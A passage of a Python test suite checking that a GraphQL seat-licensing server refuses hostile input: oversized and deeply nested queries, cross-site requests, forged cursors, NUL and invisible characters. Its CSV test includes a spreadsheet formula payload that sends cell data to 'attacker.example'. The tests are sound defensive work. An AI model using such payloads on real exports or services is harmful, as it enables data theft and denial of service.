"""What nothing a caller sends may do: break the service, act across sites, or get past the
limits (R14), and the optimistic concurrency integrations use."""

from __future__ import annotations

import base64
import contextlib
import csv
import io
import json
import logging
import sqlite3
from datetime import UTC, datetime, timedelta

import httpx
import orjson
import pytest
from graphql import build_schema, parse, validate

from server.accounts import rules, throttle
from server.accounts.models import ApiToken, Resource, Scope
from server.accounts.tokens import create_api_token
from server.api import ids, types
from server.api.engine.limits import MAX_DEPTH, MaxDepth
from server.app import create_app
from server.errors import InvalidInput
from server.licensing import services
from server.licensing.models import LicenseChange
from server.settings import Settings
from tests.factories import MAXIMUM, PASSWORD, GraphQLClient, error_codes, make_org
from tests.servers import free_port, run_cli, running_server

SEATS = "{ seats { licenseCount } }"


@pytest.fixture
async def admin(client):
    org = await make_org(license_count=3)
    await client.login(org.admin.email)
    return org


async def test_r14_a_body_over_the_limit_is_refused(client, admin):
    big = {"query": SEATS, "variables": {"pad": "x" * 1_100_000}}
    response = await client.http.post("/graphql", json=big)
    assert response.status_code == 413
    assert response.json()["errors"][0]["extensions"]["code"] == "REQUEST_TOO_LARGE"


async def test_r14_graphql_posts_must_be_json(client, admin):
    response = await client.http.post("/graphql", data={"query": SEATS})
    assert response.status_code == 415
    assert response.json()["errors"][0]["extensions"]["code"] == "UNSUPPORTED_MEDIA_TYPE"


async def test_mutations_are_not_accepted_over_get(client, admin):
    response = await client.http.get(
        "/graphql", params={"query": "mutation { setLicenseCount(count: 9) { __typename } }"}
    )
    assert response.status_code in (400, 405)
    assert (await client.data(SEATS))["seats"]["licenseCount"] == 3


@pytest.mark.parametrize(
    "headers",
    [{"Origin": "https://evil.example"}, {"Sec-Fetch-Site": "cross-site"}],
)
async def test_a_cross_site_request_with_the_session_cookie_is_refused(client, admin, headers):
    response = await client.http.post(
        "/graphql",
        json={"query": "mutation { setLicenseCount(count: 9) { __typename } }"},
        headers=headers,
    )
    assert response.status_code == 403
    assert response.json()["errors"][0]["extensions"]["code"] == "CROSS_SITE_REQUEST"
    assert (await client.data(SEATS))["seats"]["licenseCount"] == 3


async def test_same_origin_and_configured_origins_are_accepted(client, admin, settings):
    same = await client.http.post(
        "/graphql", json={"query": SEATS}, headers={"Origin": "http://testserver"}
    )
    assert same.status_code == 200
    allowed = Settings(database_url=settings.database_url, allowed_origins=("https://app.example",))
    transport = httpx.ASGITransport(app=create_app(allowed, manage_database=False))
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as http:
        http.cookies = client.http.cookies
        response = await http.post(
            "/graphql", json={"query": SEATS}, headers={"Origin": "https://app.example"}
        )
    assert response.json()["data"]["seats"]["licenseCount"] == 3


async def test_security_headers_are_on_the_page_and_the_api(client):
    for path in ("/", "/graphql?query={__typename}"):
        response = await client.http.get(path)
        csp = response.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in csp
        assert "'unsafe-inline'" not in csp
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["x-request-id"]


async def test_introspection_and_graphiql_can_be_switched_off(settings, db):
    closed = Settings(database_url=settings.database_url, introspection=False, graphiql=False)
    transport = httpx.ASGITransport(app=create_app(closed, manage_database=False))
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as http:
        body = await http.post("/graphql", json={"query": "{ __schema { types { name } } }"})
        assert body.json()["errors"]
        page = await http.get("/graphql", headers={"Accept": "text/html"})
        assert "graphiql" not in page.text.lower()


@pytest.mark.parametrize(
    ("query", "words"),
    [
        ("{ " + " ".join(f"a{i}: seats {{ used }}" for i in range(40)) + " }", "aliases"),
        ("{ seats { " + "used " * 3000 + "} }", "tokens"),
    ],
)
async def test_r14_query_limits_refuse_with_an_error_not_a_failure(client, admin, query, words):
    """Both queries are valid but for their size: without the limits they would be answered."""
    response = await client.http.post("/graphql", json={"query": query})
    assert response.status_code == 200
    body = response.json()
    assert body.get("data") is None
    assert words in body["errors"][0]["message"]
    assert "Traceback" not in response.text


def test_the_depth_limit_counts_levels_through_fragments():
    """No valid query of our schema is deeper than the limit today, so the rule is checked on a
    schema that nests without end."""
    nested = build_schema("type Query { node: Node } type Node { child: Node id: ID }")

    def codes(query: str) -> list[str]:
        errors = validate(nested, parse(query), [MaxDepth])
        return [e.extensions["code"] for e in errors]

    def deep(levels: int, leaf: str = "id") -> str:
        return "{ node { " + "child { " * (levels - 2) + leaf + " }" * (levels - 1) + " }"

    assert codes(deep(MAX_DEPTH)) == []
    assert codes(deep(MAX_DEPTH + 1)) == ["QUERY_TOO_COMPLEX"]
    through_fragment = (
        "{ node { ...Down } } fragment Down on Node { "
        + "child { " * MAX_DEPTH
        + "id"
        + " }" * MAX_DEPTH
        + " }"
    )
    assert codes(through_fragment) == ["QUERY_TOO_COMPLEX"]


async def test_r14_an_unexpected_error_is_logged_with_the_request_id(
    client, admin, monkeypatch, caplog
):
    def broken(*args, **kwargs):
        raise RuntimeError("database password is hunter2")

    monkeypatch.setattr(types.Seats, "of", broken)
    with caplog.at_level(logging.ERROR, logger="seats.api"):
        response = await client.http.post(
            "/graphql", json={"query": SEATS}, headers={"X-Request-ID": "req-abcdef123"}
        )
    error = response.json()["errors"][0]
    assert error["extensions"] == {"code": "INTERNAL_SERVER_ERROR", "requestId": "req-abcdef123"}
    assert "hunter2" not in response.text
    assert response.headers["x-request-id"] == "req-abcdef123"
    logged = [r for r in caplog.records if r.name == "seats.api"]
    assert logged and "hunter2" in str(logged[0].exc_info[1])


LOGIN = """mutation($e: String!, $p: String!) { login(email: $e, password: $p) { __typename
  ... on SignInThrottled { retryAfterSeconds message } } }"""


async def test_failed_sign_ins_back_off_per_account(client):
    org = await make_org()
    answers = [
        (await client.data(LOGIN, e=org.admin.email, p="wrong password"))["login"] for _ in range(7)
    ]
    kinds = [a["__typename"] for a in answers]
    assert kinds[:5] == ["InvalidCredentials"] * 5
    assert kinds[6] == "SignInThrottled"
    assert answers[6]["retryAfterSeconds"] >= 1
    # Even the right password waits, so guessing gains nothing.
    right = await client.data(LOGIN, e=org.admin.email, p=PASSWORD)
    assert right["login"]["__typename"] == "SignInThrottled"


async def test_the_back_off_ends_and_a_success_clears_it(db):
    org = await make_org()
    start = datetime.now(UTC)
    for _ in range(5):
        assert await throttle.claim_attempt(org.admin.email, "10.0.0.1", start) == 0
    # The fifth attempt blocks the next one at once, before its password is even checked.
    assert await throttle.claim_attempt(org.admin.email, "10.0.0.1", start) > 0
    assert await throttle.claim_attempt(org.admin.email, "10.0.0.2", start) > 0
    later = start + timedelta(minutes=16)
    assert await throttle.claim_attempt(org.admin.email, "10.0.0.1", later) == 0
    await throttle.record_success(org.admin.email, "10.0.0.1")
    for _ in range(4):
        assert await throttle.claim_attempt(org.admin.email, "10.0.0.2", later) == 0


async def test_failed_sign_ins_back_off_per_address_across_accounts(db):
    now = datetime.now(UTC)
    for i in range(20):
        assert await throttle.claim_attempt(f"guess{i}@example.com", "10.9.9.9", now) == 0
    assert await throttle.claim_attempt("someone@example.com", "10.9.9.9", now) > 0
    assert await throttle.claim_attempt("someone@example.com", "10.9.9.8", now) == 0


async def test_issue_10_item_4_successes_do_not_fill_an_address(client):
    """An office signs in many times from one address: right passwords give their attempt
    back, so only failures count towards the address's back-off."""
    org = await make_org()
    for _ in range(25):
        answer = await client.data(LOGIN, e=org.admin.email, p=PASSWORD)
        assert answer["login"]["__typename"] == "LoginSuccess"


EXPECTING = """mutation($n: Int!, $expected: Int) { setLicenseCount(count: $n,
  expectedLicenseCount: $expected) { __typename } }"""


async def test_a_stale_expected_license_count_is_refused_and_changes_nothing(client, admin):
    body = await client(EXPECTING, n=5, expected=2)
    assert error_codes(body) == ["LICENSE_COUNT_CHANGED"]
    assert body["errors"][0]["extensions"]["currentCount"] == 3
    assert (await client.data(SEATS))["seats"]["licenseCount"] == 3
    done = await client.data(EXPECTING, n=5, expected=3)
    assert done["setLicenseCount"]["__typename"] == "SetLicenseCountSuccess"


async def test_expected_license_count_guards_access_and_terminations(client, admin):
    person = await admin.add(access=False)
    body = await client(
        "mutation($id: ID!) { toggleAccess(resourceId: $id, enabled: true, "
        "expectedLicenseCount: 7) { __typename } }",
        id=ids.encode(ids.RESOURCE, person.id),
    )
    assert error_codes(body) == ["LICENSE_COUNT_CHANGED"]
    body = await client(
        'mutation($id: ID!) { terminate(resourceId: $id, lastWorkDay: "2026-01-09", '
        "expectedLicenseCount: 7) { __typename } }",
        id=ids.encode(ids.RESOURCE, person.id),
    )
    assert error_codes(body) == ["LICENSE_COUNT_CHANGED"]
    body = await client(
        'mutation { addResource(input: {name: "A", email: "a@example.com", loginAccess: true},'
        " expectedLicenseCount: 7) { __typename } }"
    )
    assert error_codes(body) == ["LICENSE_COUNT_CHANGED"]


async def test_a_client_that_leaves_mid_request_is_no_error(settings, db, caplog):
    app = create_app(settings, manage_database=False)
    scope = {
        "type": "http",
        "method": "POST",
        "path": "/graphql",
        "raw_path": b"/graphql",
        "query_string": b"",
        "scheme": "http",
        "server": ("testserver", 80),
        "client": ("127.0.0.1", 5000),
        "root_path": "",
        "http_version": "1.1",
        "headers": [(b"host", b"testserver"), (b"content-type", b"application/json")],
    }
    sent = []

    async def receive():
        return {"type": "http.disconnect"}

    async def send(message):
        sent.append(message)

    with caplog.at_level(logging.ERROR):
        await app(scope, receive, send)
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


# --- issue 10 item 3: validation costs time linear in the document -----------------------


def _doubling_fragments(count: int) -> str:
    """Fragments that each spread the next twice: 2**count paths through 40 bytes a step."""
    lines = ["query { ...F1 }"]
    for i in range(1, count):
        lines.append(f"fragment F{i} on Query {{ ...F{i + 1} ...F{i + 1} }}")
    lines.append(f"fragment F{count} on Query {{ seats {{ used }} }}")
    return "\n".join(lines)


def _selection_sets(query: str) -> int:
    from graphql import Visitor, visit

    class Counter(Visitor):
        count = 0

        def enter_selection_set(self, *_):
            self.count += 1

    counter = Counter()
    visit(parse(query), counter)
    return counter.count


@pytest.fixture
def depth_walks(monkeypatch):
    """How many selection sets MaxDepth walks; past `limit` it stops the validation, so that
    an exponential walk fails at once instead of running for minutes."""
    walks = {"count": 0, "limit": 0}
    real = MaxDepth._depth

    def counting(self, *args, **kwargs):
        walks["count"] += 1
        if walks["count"] > walks["limit"]:
            raise RuntimeError("MaxDepth walked more selection sets than the document has")
        return real(self, *args, **kwargs)

    monkeypatch.setattr(MaxDepth, "_depth", counting)
    return walks


async def test_r14_issue_10_item_3_doubling_fragments_are_validated_in_linear_time(
    client, depth_walks
):
    """Issue 10 item 3 (R14): an anonymous 1.6 KB query of 40 fragments, each spreading the
    next twice, has 2**40 paths. The depth rule walks each selection set once (each fragment's
    depth is remembered), so validating it costs what its text does."""
    query = _doubling_fragments(40)
    assert len(query) < 2000
    depth_walks["limit"] = 2 * _selection_sets(query)
    response = await client.http.post("/graphql", json={"query": query})
    assert depth_walks["count"] <= depth_walks["limit"]
    assert response.status_code == 200
    # Valid, within every limit: it reaches the resolver, which wants a signed-in caller.
    assert error_codes(response.json()) == ["UNAUTHENTICATED"]


def test_issue_10_item_3_depth_through_doubling_fragments_is_still_counted(depth_walks):
    """Remembering a fragment's depth changes no verdict: a chain of fragments one field
    deeper each, spread twice, is as deep as the chain is long; cycles end the walk."""
    nested = build_schema("type Query { node: Node } type Node { child: Node id: ID }")

    def codes(query: str) -> list[str]:
        depth_walks["count"], depth_walks["limit"] = 0, 2 * _selection_sets(query)
        errors = validate(nested, parse(query), [MaxDepth])
        assert depth_walks["count"] <= depth_walks["limit"]
        return [e.extensions["code"] for e in errors]

    def doubling(count: int) -> str:
        lines = ["query { node { ...F1 } }"]
        for i in range(1, count):
            lines.append(f"fragment F{i} on Node {{ child {{ ...F{i + 1} ...F{i + 1} }} }}")
        lines.append(f"fragment F{count} on Node {{ id }}")
        return "\n".join(lines)

    assert codes(doubling(MAX_DEPTH - 1)) == []  # node + 10 children + id: 12 levels
    assert codes(doubling(MAX_DEPTH)) == ["QUERY_TOO_COMPLEX"]
    assert codes(doubling(40)) == ["QUERY_TOO_COMPLEX"]
    cycle = "query { node { ...A } } fragment A on Node { child { ...B } } "
    cycle += "fragment B on Node { id ...A }"
    assert codes(cycle) == []


# --- issue 10 item 6: no live formulas in the CSV export ----------------------------------

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


async def test_issue_10_item_6_names_that_look_like_formulas_are_text_in_the_csv(client, admin):
    """Issue 10 item 6: a person or an actor whose name starts like a formula (= + - @, TAB,
    CR) is written with a leading single quote, as OWASP advises: readable, never run."""
    await admin.set_count(1)  # every person added now needs a license: a row naming them
    for name in FORMULAS[:4]:
        await admin.add(name)
    for count, name in enumerate(FORMULAS, start=20):  # actor names are copied as they were
        actor = services.Actor(admin.id, admin.admin.id, name, admin.admin.role)
        await services.set_license_count(actor, count, maximum=MAXIMUM)
    response = await client.http.get("/history.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    actors = {row["actor"] for row in rows}
    resources = {row["resource"] for row in rows}
    assert {"'" + name for name in FORMULAS} <= actors
    assert {"'" + name for name in FORMULAS[:4]} <= resources
    for row in rows:
        for cell in (row["actor"], row["resource"]):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert admin.admin.name in actors  # plain names stay as they are


# --- issue 10 item 9: bad input is BAD_USER_INPUT with the field, never an unexpected error


@contextlib.asynccontextmanager
async def api_client(settings: Settings, headers: dict[str, str]):
    """A client of the app, with the given headers; the app's errors are answered, not raised."""
    app = create_app(settings, manage_database=False)
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app, raise_app_exceptions=False),
        base_url="http://t",
        headers=headers,
    ) as client:
        yield client


async def bearer_of(org) -> dict[str, str]:
    token, _ = await create_api_token(
        org.id, "Integration", [Scope.SEATS_READ, Scope.BILLING_READ], created_by_id=None
    )
    return {"Authorization": f"Bearer {token}"}


@pytest.fixture
async def api(db, settings):
    org = await make_org(license_count=5)
    await org.add("Anna Alm")
    async with api_client(settings, await bearer_of(org)) as client:
        yield client


async def sent_twice(client: httpx.AsyncClient, query: str, **variables) -> list[httpx.Response]:
    """The answers to a request and to the same request again (issue 11: the second meets the
    parser, validation and plan caches, and must answer alike)."""
    body = {"query": query, "variables": variables}
    return [await client.post("/graphql", json=body), await client.post("/graphql", json=body)]


def _cursor(raw: str) -> str:
    return base64.urlsafe_b64encode(raw.encode("utf-8", "surrogatepass")).decode()


RESOURCES_AFTER = "query($c: String) { resources(after: $c) { totalCount } }"
HISTORY_AFTER = "query($c: String) { history(after: $c) { edges { cursor } } }"
INVOICES_AFTER = "query($c: String) { invoices(after: $c) { edges { cursor } } }"


@pytest.mark.parametrize(
    ("query", "cursor"),
    [
        (RESOURCES_AFTER, _cursor('["a\\u0000b",1]')),
        (RESOURCES_AFTER, _cursor('["a",1e20]')),
        (RESOURCES_AFTER, _cursor('["\\ud800",1]')),
        (RESOURCES_AFTER, _cursor('["a",2147483648]')),
        (RESOURCES_AFTER, _cursor('["a",true]')),
        (RESOURCES_AFTER, _cursor('["a",0]')),
        (HISTORY_AFTER, _cursor("[2147483648]")),
        (HISTORY_AFTER, _cursor("[9223372036854775808]")),
        (HISTORY_AFTER, _cursor("[" * 10_000 + "]" * 10_000)),
        (HISTORY_AFTER, _cursor("[" * 600 + "]" * 600)),
        (HISTORY_AFTER, "WzFd\u00e9"),
        (INVOICES_AFTER, _cursor('["2026-13-01"]')),
        (INVOICES_AFTER, _cursor('["x\\u0000"]')),
    ],
    ids=lambda value: value.split("(")[0].split()[-1] if "query" in value else None,
)
async def test_r14_issue_10_item_9_a_forged_cursor_is_bad_input(api, query, cursor):
    """Issue 10 item 9 (R14): a cursor this API did not give out (NUL, lone surrogates, ids past
    the 32-bit columns, floats, booleans, nesting without end, no date) is BAD_USER_INPUT on
    `after`, on both databases, the first time and again; never an unexpected error."""
    for response in await sent_twice(api, query, c=cursor):
        body = response.json()
        assert error_codes(body) == ["BAD_USER_INPUT"], body
        assert body["errors"][0]["extensions"]["field"] == "after"


async def test_issue_10_item_9_cursors_given_out_still_work(api):
    page = (
        await api.post(
            "/graphql", json={"query": "{ resources(first: 1) { pageInfo { endCursor } } }"}
        )
    ).json()
    cursor = page["data"]["resources"]["pageInfo"]["endCursor"]
    for response in await sent_twice(api, RESOURCES_AFTER, c=cursor):
        assert response.json() == {"data": {"resources": {"totalCount": 2}}}


LONE = "a\ud800b"  # half of a surrogate pair: JSON can write it, no database can store it


@pytest.mark.parametrize(
    ("field", "query", "variables"),
    [
        ("search", "query($s: String) { resources(search: $s) { totalCount } }", {"s": LONE}),
        (
            "name",
            'mutation($s: String!) { addResource(input: {name: $s, email: "l@example.com"}) '
            "{ __typename } }",
            {"s": LONE},
        ),
        (
            "email",
            'mutation($s: String!) { addResource(input: {name: "L", email: $s}) { __typename } }',
            {"s": f"{LONE}@example.com"},
        ),
        (
            "password",
            'mutation($s: String!) { addResource(input: {name: "L", email: "l@example.com", '
            "loginAccess: true, password: $s}) { __typename } }",
            {"s": LONE * 10},
        ),
        (
            "name",
            "mutation($s: String!) { createApiToken(name: $s, scopes: [SEATS_READ]) "
            "{ __typename } }",
            {"s": LONE},
        ),
        (
            "idempotencyKey",
            "mutation($s: String!) { setLicenseCount(count: 4, idempotencyKey: $s) "
            "{ __typename } }",
            {"s": LONE},
        ),
        (
            "email",
            'mutation($s: String!) { login(email: $s, password: "x") { __typename } }',
            {"s": LONE},
        ),
    ],
)
async def test_r14_issue_10_item_9_a_lone_surrogate_in_text_is_bad_input(
    client, admin, field, query, variables
):
    """Issue 10 item 9 (R14): text with half a surrogate pair is BAD_USER_INPUT naming the
    field (SQLite's driver cannot encode it, PostgreSQL cannot store it); nothing is written."""
    before = await Resource.all().count(), await LicenseChange.all().count()
    response = await client.http.post(
        "/graphql",
        content=json.dumps({"query": query, "variables": variables}),  # "\ud800" escaped
        headers={"content-type": "application/json"},
    )
    body = response.json()
    assert error_codes(body) == ["BAD_USER_INPUT"], body
    assert body["errors"][0]["extensions"]["field"] == field
    assert (await Resource.all().count(), await LicenseChange.all().count()) == before


@pytest.mark.parametrize(
    "query_string",
    [
        'query={resources(search:"a%5C%750000b"){totalCount}}',
        'query={resources(search:"a%5Cu%7B0%7Db"){totalCount}}',
        'query=query($s:String){resources(search:$s){totalCount}}&variables={"s":"a%5C%75%30000"}',
    ],
)
async def test_r14_issue_10_item_9_nul_in_a_query_string_is_refused_however_encoded(
    client, admin, query_string
):
    """Issue 10 item 9 (R14): the query string is decoded as the app decodes it before it is
    looked at, so NUL (here `\\u0000` with its letters percent-encoded, or GraphQL's `\\u{0}`)
    is refused whatever its spelling, naming the parameter."""
    response = await client.http.get("/graphql?" + query_string)
    assert response.status_code == 400
    body = response.json()
    assert error_codes(body) == ["BAD_USER_INPUT"]
    assert body["errors"][0]["extensions"]["field"] in ("query", "variables")


async def test_r14_issue_10_item_9_nul_written_as_graphql_escape_in_a_body(client, admin):
    """The body check knows JSON's `\\u0000`; GraphQL's own `\\u{0}` is refused by the text
    rule of the field it reaches."""
    query = '{ resources(search: "a\\u{0}b") { totalCount } }'
    body = (await client.http.post("/graphql", json={"query": query})).json()
    assert error_codes(body) == ["BAD_USER_INPUT"], body
    assert body["errors"][0]["extensions"]["field"] == "search"


@pytest.mark.parametrize(
    ("query", "variables", "code"),
    [
        ("{ seats { nope } }", {}, "GRAPHQL_VALIDATION_FAILED"),
        ("query($x: Int) { seats { used } }", {}, "GRAPHQL_VALIDATION_FAILED"),
        ("{ seats ", {}, "GRAPHQL_PARSE_FAILED"),
        ("{ seats { " + "used " * 3000 + "} }", {}, "QUERY_TOO_COMPLEX"),
        ("query($n: Int!) { resources(first: $n) { totalCount } }", {"n": "x"}, "BAD_USER_INPUT"),
        ("query($n: Int!) { resources(first: $n) { totalCount } }", {}, "BAD_USER_INPUT"),
        (
            "query($s: ResourceStatus!) { resources(status: $s) { totalCount } }",
            {"s": "SOME"},
            "BAD_USER_INPUT",
        ),
    ],
)
async def test_r14_issue_10_item_9_errors_of_the_request_carry_a_code(api, query, variables, code):
    """Issue 10 item 9 (R14): syntax errors, validation errors and variables the operation
    cannot take are coded like every other error, the first time and again; a variable names itself
    in `field`."""
    for response in await sent_twice(api, query, **variables):
        body = response.json()
        assert [e["extensions"]["code"] for e in body["errors"]] == [code], body
        if code == "BAD_USER_INPUT":
            assert body["errors"][0]["extensions"]["field"] == query.split("$")[1].split(":")[0]


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ({"query": "subscription { seatsChanged { used } }"}, "subscriptions"),
        ("{not json", "JSON"),
        ({"variables": {}}, "No GraphQL query"),
    ],
)
async def test_r14_refused_requests_are_answered_as_json_with_a_code(api, body, words):
    """R14: a subscription needs the websocket; a body that is not JSON, or has no query, is no
    request. Each gets a 400 with the shape of error every other answer has, the first time
    and again (it once was a masked internal error)."""
    for _ in range(2):
        if isinstance(body, str):
            response = await api.post(
                "/graphql", content=body, headers={"content-type": "application/json"}
            )
        else:
            response = await api.post("/graphql", json=body)
        assert response.status_code == 400
        (error,) = response.json()["errors"]
        assert error["extensions"]["code"] == "BAD_REQUEST"
        assert words.lower() in error["message"].lower()


# --- issue 10 item 11a: no guesses at the schema's names without introspection -----------

GUESSES = [
    ("{ seats { licenseCont } }", {}),
    ("{ resources(statu: ALL) { totalCount } }", {}),
    ("query($s: ResourceStatus!) { resources(status: $s) { totalCount } }", {"s": "ACTIV"}),
    ("query { resources(status: ACTIV) { totalCount } }", {}),
]


@pytest.mark.parametrize(("query", "variables"), GUESSES)
async def test_issue_10_item_11a_without_introspection_errors_suggest_no_names(
    db, settings, query, variables
):
    """Issue 10 item 11a: with introspection off, "Did you mean …?" would still tell the
    schema's names one guess at a time: the errors keep their message and code without it,
    the first time and again. With introspection on, the guesses help and stay."""
    org = await make_org()
    headers = await bearer_of(org)
    closed = Settings(database_url=settings.database_url, introspection=False)
    async with api_client(closed, headers) as client:
        for response in await sent_twice(client, query, **variables):
            errors = response.json()["errors"]
            assert errors and all("Did you mean" not in e["message"] for e in errors), errors
            assert all(e["extensions"]["code"] for e in errors)
    async with api_client(settings, headers) as client:
        for response in await sent_twice(client, query, **variables):
            assert "Did you mean" in response.json()["errors"][0]["message"]


# --- issue 10 item 11e: no invisible or control characters in names ----------------------

HIDDEN = [
    "\u200b",  # zero-width space
    "\u200d",  # zero-width joiner
    "\u200e",  # left-to-right mark
    "\u202e",  # right-to-left override
    "\u2066",  # left-to-right isolate
    "\u2069",  # pop directional isolate
    "\ufeff",  # byte order mark
    "\u00ad",  # soft hyphen (Cf)
    "\u2060",  # word joiner (Cf)
    "\x07",  # bell (Cc)
    "\x1b",  # escape (Cc)
    "\x85",  # next line (Cc, white space to str.split: collapsed, not refused)
]


@pytest.mark.parametrize("hidden", HIDDEN, ids=lambda c: f"U+{ord(c):04X}")
def test_issue_10_item_11e_clean_name_refuses_invisible_and_control_characters(hidden):
    """Issue 10 item 11e (R14): a name with an invisible format or control character is
    refused, naming the field (see clean_name's docstring for why refused, not stripped)."""
    name = f"Anna{hidden}Alm"
    if hidden.isspace():
        assert rules.clean_name(name) == "Anna Alm"
        return
    with pytest.raises(InvalidInput) as refused:
        rules.clean_name(name)
    assert refused.value.extensions == {"code": "BAD_USER_INPUT", "field": "name"}
    with pytest.raises(InvalidInput):
        rules.clean_email(f"anna{hidden}@example.com")


def test_issue_10_item_11e_ordinary_names_pass():
    for name in ("Anna Alm", "Åsa Öberg", "José Ñúñez", "Zoë 😀", "Ἀλέξανδρος", "王小明"):
        assert rules.clean_name(f"  {name}\t ") == name
    assert rules.clean_email(" Anna.Alm@Example.com ") == "anna.alm@example.com"


@pytest.mark.parametrize(
    ("field", "query"),
    [
        (
            "name",
            'mutation { addResource(input: {name: "An\\u200Bna", email: "a@example.com"}) '
            "{ __typename } }",
        ),
        (
            "name",
            'mutation { addResource(input: {name: "\\u202Emla annA", email: "a@example.com"})'
            " { __typename } }",
        ),
        (
            "email",
            'mutation { addResource(input: {name: "Anna", email: "an\\u2066na@example.com"}) '
            "{ __typename } }",
        ),
        (
            "name",
            'mutation { createApiToken(name: "CI\\uFEFF", scopes: [SEATS_READ]) { __typename } }',
        ),
        (
            "name",
            'mutation { createApiToken(name: "CI\\u0007", scopes: [SEATS_READ]) { __typename } }',
        ),
    ],
)
async def test_r14_issue_10_item_11e_invisible_characters_are_refused_in_the_api(
    client, admin, field, query
):
    """Issue 10 item 11e (R14): names, e-mails and token names share one rule; nothing is
    written."""
    before = await Resource.all().count(), await ApiToken.all().count()
    body = (await client.http.post("/graphql", json={"query": query})).json()
    assert error_codes(body) == ["BAD_USER_INPUT"], body
    assert body["errors"][0]["extensions"]["field"] == field
    assert (await Resource.all().count(), await ApiToken.all().count()) == before


async def test_issue_10_item_11e_token_names_are_cleaned_as_names(db):
    org = await make_org()
    _, token = await create_api_token(
        org.id, "  CI \t deploy ", [Scope.SEATS_READ], created_by_id=None
    )
    assert token.name == "CI deploy"
    with pytest.raises(InvalidInput):
        await create_api_token(org.id, "x" * 101, [Scope.SEATS_READ], created_by_id=None)


# --- issue 10 item 7: a database outage is a 503 in JSON, like every other answer ----------


@contextlib.contextmanager
def database_at(url: str):
    """The ORM's connection, for this test's task only, to the database at `url`."""
    from tortoise import connections
    from tortoise.backends.base.config_generator import expand_db_url

    info = expand_db_url(url)
    client_class = connections._discover_client_class(info)
    client = client_class(**{**info["credentials"], "connection_name": "default"})
    token = connections.set("default", client)
    try:
        yield
    finally:
        connections.reset(token)


def unreachable_databases(tmp_path) -> list[str]:
    return [
        f"postgres://postgres@127.0.0.1:{free_port()}/seats",  # nothing listens there
        f"sqlite://{tmp_path}/no-such-directory/seats.sqlite3",
    ]


SECURITY_HEADERS = ("content-security-policy", "x-content-type-options", "x-frame-options")


def assert_unavailable(response: httpx.Response, rid: str) -> None:
    assert response.status_code == 503, response.text
    assert response.headers["content-type"].startswith("application/json")
    assert int(response.headers["retry-after"]) > 0
    assert response.headers["x-request-id"] == rid
    assert response.headers["cache-control"] == "no-store"
    for header in SECURITY_HEADERS:
        assert response.headers[header]
    (error,) = response.json()["errors"]
    assert error["extensions"] == {"code": "SERVICE_UNAVAILABLE", "requestId": rid}
    assert "Traceback" not in response.text


async def test_r14_issue_10_item_7_a_database_outage_is_a_503_in_json(
    db, settings, tmp_path, caplog
):
    """Issue 10 item 7 (R14): with the database out of reach, the session and token look-ups
    fail before GraphQL runs. Every answer is still JSON: 503 SERVICE_UNAVAILABLE with
    Retry-After, the request id, and the usual headers, for a document seen before and on the CSV;
    /healthz (liveness) still answers 200 and /readyz says 503."""
    org = await make_org()
    bearer = await bearer_of(org)
    async with api_client(settings, bearer) as lane:
        cookie_client = GraphQLClient(lane)
        await cookie_client.login(org.admin.email)
        await lane.post("/graphql", json={"query": SEATS})  # known: the next meets the caches
        for url in unreachable_databases(tmp_path):
            with database_at(url), caplog.at_level(logging.WARNING):
                for n, headers in enumerate(({}, bearer)):
                    rid = f"outage-{n}-{len(caplog.records)}"
                    response = await lane.post(
                        "/graphql",
                        json={"query": SEATS},
                        headers={"X-Request-ID": rid, **headers},
                    )
                    assert_unavailable(response, rid)
                rid = "outage-get-1"
                response = await lane.get(
                    "/graphql",
                    params={"query": SEATS},
                    headers={"X-Request-ID": rid, **bearer},
                )
                assert_unavailable(response, rid)
                response = await lane.get("/history.csv", headers={"X-Request-ID": "csv-12345"})
                assert_unavailable(response, "csv-12345")
                # Where the database is needed inside GraphQL (signing in): the same answer.
                login = 'mutation($e: String!) { login(email: $e, password: "x") { __typename } }'
                response = await lane.post(
                    "/graphql",
                    json={"query": login, "variables": {"e": org.admin.email}},
                    headers={"X-Request-ID": "login-12345", "Authorization": ""},
                )
                assert response.status_code == 503
                error = response.json()["errors"][0]
                assert error["extensions"] == {
                    "code": "SERVICE_UNAVAILABLE",
                    "requestId": "login-12345",
                }
                assert (await lane.get("/healthz")).status_code == 200
                ready = await lane.get("/readyz")
                assert ready.status_code == 503
                assert ready.json() == {"status": "unavailable"}
        assert (await lane.get("/readyz")).json() == {"status": "ok"}


async def test_r14_issue_10_item_7_other_failures_are_a_500_in_json(
    client, admin, monkeypatch, caplog
):
    """Issue 10 item 7 (R14): an unexpected error outside GraphQL's own error handling (here in
    the session look-up) is INTERNAL_SERVER_ERROR in JSON with the request id, logged under it;
    never text/plain."""
    from server.api import http

    async def broken(*args, **kwargs):
        raise RuntimeError("the secret is hunter2")

    # Who sends a request is looked up in one place, for GraphQL and for the CSV export.
    monkeypatch.setattr(http, "viewer_for_session", broken)
    with caplog.at_level(logging.ERROR):
        for method, path in (("POST", "/graphql"), ("GET", "/graphql"), ("GET", "/history.csv")):
            response = await client.http.request(
                method,
                path,
                params={"query": SEATS} if method == "GET" else None,
                json={"query": SEATS} if method == "POST" else None,
                headers={"X-Request-ID": "broken-12345"},
            )
            assert response.status_code == 500, response.text
            assert response.headers["content-type"].startswith("application/json")
            assert response.headers["x-request-id"] == "broken-12345"
            assert response.json()["errors"][0]["extensions"] == {
                "code": "INTERNAL_SERVER_ERROR",
                "requestId": "broken-12345",
            }
            assert "hunter2" not in response.text
    assert any("hunter2" in str(r.exc_info[1]) for r in caplog.records if r.exc_info)


# --- issue 10 items 11b and 11c: no caching of organisation data; HSTS behind HTTPS --------


async def test_issue_10_item_11b_api_answers_are_not_stored_by_caches(db, settings):
    """Issue 10 item 11b: every answer that carries an organisation's data (or an error about
    it) says `Cache-Control: no-store`: GraphQL by GET and POST, the first time and again,
    errors and refusals, and the CSV."""
    org = await make_org()
    bearer = await bearer_of(org)
    async with api_client(settings, bearer) as lane:
        answers = [
